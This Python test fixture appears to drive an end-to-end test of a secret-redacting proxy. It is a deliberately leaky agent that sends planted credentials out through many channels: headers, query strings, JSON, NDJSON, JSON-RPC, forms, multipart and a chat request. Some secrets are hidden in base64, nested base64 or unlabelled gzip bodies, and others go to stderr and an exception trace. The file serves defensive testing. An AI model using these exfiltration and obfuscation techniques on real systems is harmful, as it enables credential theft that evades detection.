"""An agent that leaks every planted secret it can, through every channel (tests/e2e/run/test_secrets_e2e.py).

It reads the planted values from the JSON file named by LEAKY_PLANTS (outside the run directory)
and the run's secrets from its environment, then sends them through the proxy with requests and
httpx: secret headers, query parameters, JSON by key and by value type, NDJSON, JSON-RPC, forms,
multipart, a streamed chat answer, base64 and gzip bodies and fields; it prints some to stderr, prints an exception whose
message holds some, and writes others into its answer.
"""

import base64
import gzip
import json
import os
import sys
import traceback

import httpx
import requests

plants = json.loads(open(os.environ["LEAKY_PLANTS"]).read())
base = os.environ["LEAKY_UPSTREAM"]
service_secret = os.environ["LEAKY_SERVICE_SECRET"]  # --secret-env
task_token = os.environ["LEAKY_TASK_TOKEN"]  # the task's secrets, its value in the tasks file's env
db_password = os.environ["LEAKY_DB_PASSWORD"]  # a task env entry whose name looks secret
p = plants


def main() -> int:
    with httpx.Client(timeout=20) as client:  # proxy and CA from the environment
        client.get(f"{base}/echo", params={"key": p["query_key"], "signature": p["query_signature"], "page": "2"},
                   headers={"x-goog-api-key": p["goog_header"], "X-Auth-Token": p["auth_token_header"],
                            "Private-Token": p["private_token_header"],
                            "Authorization": f"Bearer {p['bearer_header']}", "Cookie": f"sid={p['cookie']}",
                            "X-Debug": f"service {service_secret}", "Idempotency-Key": "idem-0001-keep"})
        client.post(f"{base}/json", json={
            "client_secret": p["json_string"], "password": int(p["json_number"]),
            "pin_password": int(p["json_number2"]), "api_key": [p["json_list"]],
            "credentials": {"user": "ann", "value": p["json_object"]}, "note": f"task token {task_token}",
            "comment": f"db {db_password}", "max_tokens": 256, "request_id": "req-keep-42",
        }, headers={"Idempotency-Key": "idem-0002-keep"})
        ndjson = json.dumps({"refresh_token": p["ndjson"], "n": 1}) + "\n" + json.dumps({"n": 2}) + "\n"
        client.post(f"{base}/ndjson", content=ndjson, headers={"content-type": "application/x-ndjson"})
        client.post(f"{base}/rpc", json={"jsonrpc": "2.0", "id": 7, "method": "tools/call",
                                         "params": {"name": "lookup", "arguments": {"access_token": p["jsonrpc"]}}})
        # A user message that is base64 of free text with a secret-named assignment (in the OTLP spans too).
        hidden = b64(f"context: api_key={p['b64_assignment']} region=eu")
        chat = client.post(f"{base}/v1/chat/completions", json={"model": "m", "stream": True, "max_tokens": 64,
                                                                  "messages": [{"role": "user", "content": hidden}]})
        streamed = "".join(_deltas(chat.text))
        # Hidden in encodings: a base64 body whose JSON holds a secret key, the run's secrets base64'd in
        # JSON string fields, a gzip body sent without Content-Encoding, base64 and binary answers.
        client.post(f"{base}/b64body", content=b64(json.dumps({"api_key": p["b64_body_key"], "n": 1})),
                    headers={"content-type": "text/plain"})
        client.post(f"{base}/json2", json={"blob": b64(service_secret), "attachment": b64(f"use {p['b64_shape']}"),
                                          "file": b64(f"task token {task_token}", urlsafe=True),
                                          "config": b64(json.dumps({"inner": b64(f"password: {p['b64_nested']}")}))})
        client.post(f"{base}/gz", content=gzip.compress(json.dumps({"password": p["gzip_password"]}).encode()),
                    headers={"content-type": "application/gzip"})
        client.get(f"{base}/b64answer")
        client.get(f"{base}/binary")
    form = requests.post(f"{base}/form", data={"password": p["form_password"], "client_secret": p["form_secret"],
                                               "payload": json.dumps({"api_key": p["form_json"]}), "user": "ann"},
                         timeout=20)
    requests.post(f"{base}/upload", files={"password": (None, p["multipart"]), "note": (None, "hello")}, timeout=20)
    refused = requests.get(f"{base}/denied", timeout=20).json()["error"]["message"]
    print(f"calling with Authorization: Bearer {p['stderr_bearer']} and {p['stderr_anthropic']}", file=sys.stderr)
    answer = {"answer": f"done; the stream said {streamed}; form {form.status_code}",
              "reason": f"used {task_token} and {service_secret}; upstream said: {refused}"}
    with open(os.environ["FAULTPROXY_OUTPUT"], "w") as file:
        json.dump(answer, file)
    try:
        raise RuntimeError(f"giving up with {p['error_github']} {p['error_slack']} {p['error_aws']}")
    except RuntimeError:
        traceback.print_exc()  # an error message on stderr, as a crashing client prints it
    return 0


def b64(text: str, urlsafe: bool = False) -> str:
    return (base64.urlsafe_b64encode if urlsafe else base64.b64encode)(text.encode()).decode()


def _deltas(body: str):
    for line in body.splitlines():
        if line.startswith("data:") and "[DONE]" not in line:
            event = json.loads(line[5:])
            for choice in event.get("choices") or ():
                yield choice.get("delta", {}).get("content") or ""


sys.exit(main())
